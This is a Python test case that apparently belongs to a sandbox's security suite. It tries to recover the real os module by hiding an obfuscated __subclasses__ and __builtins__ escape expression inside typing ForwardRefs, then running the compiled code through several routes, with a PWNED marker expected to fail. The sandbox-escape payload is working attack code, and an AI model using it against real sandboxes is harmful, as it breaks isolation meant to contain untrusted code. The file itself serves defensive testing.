# category: builtins-recovery
# attack: every typing route from a string to a ForwardRef (List, Dict, Optional, Union, Callable, a Generic subclass, a TypeVar bound, NamedTuple), then its code object through getattr or deepcopy's memo and type(agent) to run it, or ForwardRef._evaluate: the real os
# marker: PWNED-builtins_forwardref_routes
# expect: ERROR|DONE
# target: runtime
# In the arena a ForwardRef keeps no code object, and every step to it or from it is refused.
import copy
import typing

MARK = "PWNED" + "-builtins_forwardref_routes"
u = chr(95) * 2
EXPR = (
    "[c for c in ()." + u + "class" + u + "." + u + "base" + u + "." + u + "subclasses" + u + "() if c." + u
    + "name" + u + " == 'catch_warnings'][0]()._module." + u + "builtins" + u + "['" + u + "import" + u + "']('os')"
)
T = typing.TypeVar("T")


class Box(typing.Generic[T]):
    pass


def agent(observation, configuration):
    return observation.step % configuration.signs


ROUTES = {
    "List": lambda: typing.get_args(typing.List[EXPR])[0],
    "Dict": lambda: typing.get_args(typing.Dict[str, EXPR])[1],
    "Optional": lambda: typing.get_args(typing.Optional[EXPR])[0],
    "Union": lambda: typing.get_args(typing.Union[int, EXPR])[1],
    "Callable": lambda: typing.get_args(typing.Callable[[EXPR], int])[0][0],
    "Generic subclass": lambda: typing.get_args(Box[EXPR])[0],
    "TypeVar bound": lambda: getattr(typing.TypeVar("B", bound=EXPR), u + "bound" + u),
    "NamedTuple": lambda: getattr(typing.NamedTuple("P", [("x", EXPR)]), u + "annotations" + u)["x"],
}


def code_by_getattr(ref):
    return getattr(ref, u + "forward_code" + u)


def code_by_memo(ref):
    memo = {}
    copy.deepcopy(typing.List[ref], memo)
    return [item for value in list(memo.values()) if isinstance(value, dict) for item in value.values()
            if repr(item).startswith("<code object")][0]


for label, make in ROUTES.items():
    try:
        ref = make()
        print(label, "gave", repr(ref)[:40])
    except Exception as exc:
        print(label, "gave no ForwardRef:", repr(exc))
        continue
    for how, get in (("getattr", code_by_getattr), ("deepcopy memo", code_by_memo)):
        try:
            code = get(ref)
            if code is None:
                print(label, how, "found no code")
                continue
            real_os = type(agent)(code, {})()
            print(MARK, label, how, "real os, pid", real_os.getpid())
        except Exception as exc:
            print(label, how, "failed:", repr(exc))
    try:
        print(MARK, label, "evaluated: real os, pid", ref._evaluate({}, {}, frozenset()).getpid())
    except Exception as exc:
        print(label, "evaluate failed:", repr(exc))
